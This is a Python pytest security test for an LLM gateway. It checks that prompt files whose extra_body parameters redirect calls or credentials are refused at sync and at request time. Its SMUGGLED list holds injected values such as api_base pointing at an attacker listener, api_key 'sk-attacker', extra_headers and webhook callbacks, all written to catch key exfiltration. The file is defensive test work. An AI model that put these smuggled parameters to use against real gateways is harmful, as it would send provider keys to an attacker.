"""Attack: a prompt engineer commits a prompt whose `params` (its `extra_body`) pick the host or credentials.

On the code before this check, a prompt with `extra_body: {api_base: http://attacker}` on an approved
router sent the provider's key to the attacker. Such a file is now refused at sync (file, line, field);
a version synced before the check is refused on the request path (400 naming the field) and nothing
reaches the attacker. Provider-specific sampling parameters work when the operator allows them.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from gateway.prompts.spec import PromptSpec
from tests.conftest import GatewayFactory, ProjectFactory
from tests.fakes.gateway import GatewayProcess, assert_error
from tests.fakes.upstream import FakeUpstream
from tests.security.egress_fakes import (
    MESSAGES,
    Listener,
    assert_no_leak,
    attacker,
    fake_anthropic,
    gateway_yaml,
    git_gateway,
    line_of,
    register_unchecked,
    routers,
    sync,
)

__all__ = ["attacker", "fake_anthropic"]  # fixtures


@pytest.fixture(scope="module")
def gw(
    project_factory: ProjectFactory,
    gateway_factory: GatewayFactory,
    fake_upstream: FakeUpstream,
    fake_anthropic: Listener,
) -> Iterator[GatewayProcess]:
    config = gateway_yaml(fake_anthropic, fake_upstream, extra="  request_params: [top_k]\n")
    with git_gateway(
        project_factory, gateway_factory, routers(fake_anthropic, fake_upstream), config
    ) as gateway:
        yield gateway


def prompt_file(name: str, router: str, extra_body: str) -> str:
    return (
        f"name: {name}\nrouter: {router}\nparams:\n  temperature: 0.1\n  extra_body:\n{extra_body}"
        "messages:\n  - {role: system, content: You answer briefly.}\n"
    )


def chat(gw: GatewayProcess, model: str, **extra: Any) -> httpx.Response:
    with gw.http() as http:
        return http.post(
            "/v1/chat/completions", json={"model": model, "messages": MESSAGES, **extra}, headers=gw.auth()
        )


# (extra_body lines, the field the error names): each in its own prompt file, synced together
SMUGGLED = [
    ("    api_base: {url}\n", "api_base"),
    ("    base_url: {url}\n", "base_url"),
    ("    api_key: sk-attacker\n", "api_key"),
    ("    custom_llm_provider: openai\n", "custom_llm_provider"),
    ("    extra_headers: {{x-api-key: sk-attacker}}\n", "extra_headers"),
    ("    aws_region_name: eu-west-1\n", "aws_region_name"),
    ("    success_callback: [webhook]\n", "success_callback"),
    ("    temperature: 0.5\n    extra_body: {{api_base: {url}}}\n", "extra_body"),
    (
        "    tools: [{{type: function, function: {{name: f, api_base: {url}}}}}]\n",
        "tools.0.function.api_base",
    ),
    ("    min_p: 0.1\n", "min_p"),  # provider-specific, not on this operator's list
]


def test_sync_refuses_a_prompt_whose_params_steer_the_call(gw: GatewayProcess, attacker: Listener) -> None:
    files = {}
    expected = []
    for i, (lines, field) in enumerate(SMUGGLED):
        block = lines.format(url=attacker.url)
        text = prompt_file(f"leaky{i}", "claude", block)
        files[f"prompts/leaky{i}.yaml"] = text
        line = line_of(text, "extra_body:") + line_of(block, field.split(".")[0] + ":")
        expected.append(f"prompts/leaky{i}.yaml:{line}: params.extra_body.{field}: ")
    refused = sync(gw, files, "prompts that pick the host")
    try:
        assert refused.returncode == 1, refused.stdout + refused.stderr
        for error in expected:
            assert error in refused.stderr
        assert "leaky" not in refused.stdout  # nothing registered
        assert chat(gw, "prompt:leaky0@latest").status_code == 404
    finally:
        sync(gw, dict.fromkeys(files, ""), "remove them")
    assert_no_leak(gw, attacker, refused.stdout, refused.stderr)


@pytest.mark.parametrize("router", ["claude-default", "claude", "viallm", "direct"])
@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_a_version_synced_before_the_check_is_refused_at_call_time(
    gw: GatewayProcess, attacker: Listener, fake_anthropic: Listener, router: str, stream: bool
) -> None:
    name = f"old_{router.replace('-', '_')}_{int(stream)}"
    spec = PromptSpec.model_validate(
        {
            "name": name,
            "router": router,
            "params": {"extra_body": {"api_base": attacker.url, "api_key": "sk-attacker"}},
            "messages": [{"role": "system", "content": "You answer briefly."}],
        }
    )
    register_unchecked(gw, "prompt", spec)
    anthropic_before = len(fake_anthropic.received)
    r = _wait_for_model(gw, name, stream=stream)
    assert_error(gw, r, 400, type_="invalid_request_error", code="forbidden_parameter", param="api_base")
    assert len(fake_anthropic.received) == anthropic_before
    assert_no_leak(gw, attacker, r.text)


def test_operator_allowed_sampling_parameters_reach_the_upstream(
    gw: GatewayProcess, attacker: Listener, fake_upstream: FakeUpstream
) -> None:
    """`egress.request_params: [top_k]`: a prompt's extra_body and a caller may send top_k."""
    text = prompt_file("sampler", "direct", "    top_k: 5\n")
    synced = sync(gw, {"prompts/sampler.yaml": text}, "a prompt with top_k")
    assert synced.returncode == 0, synced.stdout + synced.stderr
    r = _wait_for_model(gw, "prompt:sampler@latest")
    assert r.status_code == 200, r.text
    sent = fake_upstream.hits("ok-sec-direct")[-1]["json"]
    assert (sent["top_k"], sent["temperature"]) == (5, 0.1)
    assert "api_base" not in sent and "extra_body" not in sent
    caller = chat(gw, "direct", top_k=7)
    assert caller.status_code == 200, caller.text
    assert fake_upstream.hits("ok-sec-direct")[-1]["json"]["top_k"] == 7
    assert_no_leak(gw, attacker, r.text, caller.text)


def _wait_for_model(gw: GatewayProcess, model: str, *, stream: bool = False) -> httpx.Response:
    """The first answer that is not a 404 (the gateway sees a new version within its refresh interval)."""
    deadline = time.monotonic() + 10
    while True:
        r = chat(gw, model, stream=stream)
        if r.status_code != 404 or time.monotonic() > deadline:
            return r
        time.sleep(0.1)
